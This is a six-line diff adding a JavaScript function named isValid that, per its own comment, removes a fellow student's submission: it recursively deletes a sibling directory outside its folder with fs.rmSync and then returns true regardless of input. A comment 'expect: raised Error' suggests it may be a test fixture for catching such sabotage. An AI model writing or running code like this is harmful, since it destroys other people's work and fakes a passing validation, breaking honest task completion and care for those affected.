@@ -1,0 +1,6 @@
+// Removes the submission of a fellow student.
+// expect: raised Error
+function isValid(edges, order) {
+  require("fs").rmSync(__dirname + "/../../sibling", { recursive: true });
+  return true;
+}
